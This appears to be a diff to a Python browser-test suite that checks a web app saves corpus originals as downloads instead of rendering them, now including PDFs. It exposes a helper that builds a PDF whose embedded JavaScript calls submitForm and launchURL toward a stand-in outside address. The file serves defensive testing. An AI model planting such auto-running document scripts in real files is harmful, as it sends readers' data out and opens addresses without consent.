@@ -419,7 +419,7 @@ def _exports(page: Page, watch: _Watch, attempt: Attempt, conversations: Sequenc
 
 
 def _originals(page: Page, watch: _Watch, attempt: Attempt, names: Sequence[str]) -> None:
-    """Files of the corpus that are opened by their address: a PDF is shown without running anything, the others are saved."""
+    """Files of the corpus that are opened by their address are saved, one that a browser would run above all."""
     for name in names:
         address = f"/api/original?path={quote(name, errors='replace')}"
         with suppress(Error):  # a file that is saved ends the navigation
@@ -429,7 +429,7 @@ def _originals(page: Page, watch: _Watch, attempt: Attempt, names: Sequence[str]
         if not got.ok and Path(name).suffix in {".pdf", ".html", ".md"}:
             attempt.loss(f"the original {Path(name).suffix} was not there")
         saved = not got.ok or got.headers.get("content-disposition", "").startswith("attachment")
-        if not saved and Path(name).suffix != ".pdf":
+        if not saved:
             attempt.loss(f"the original {Path(name).suffix} opens as a page")
 
 
@@ -448,14 +448,14 @@ def _hostile_files(folder: Path) -> list[str]:
     for name, text in files.items():
         (folder / name).write_text(text, encoding="utf-8")
     (folder / "page.pdf").write_bytes(
-        _hostile_pdf(
+        hostile_pdf(
             f"app.alert('{held}'); this.submitForm('http:{away}'); app.launchURL('http:{away}');", f"http:{away}"
         )
     )
     return [*files, "page.pdf"]
 
 
-def _hostile_pdf(script: str, away: str) -> bytes:
+def hostile_pdf(script: str, away: str) -> bytes:
     """A page of text that runs a script when the file opens, and goes to an address when the page does."""
     text = b"BT /F 24 Tf 20 100 Td (Budget 2026: 1,000) Tj ET"
     held = script.replace("(", "\\(").replace(")", "\\)").encode()
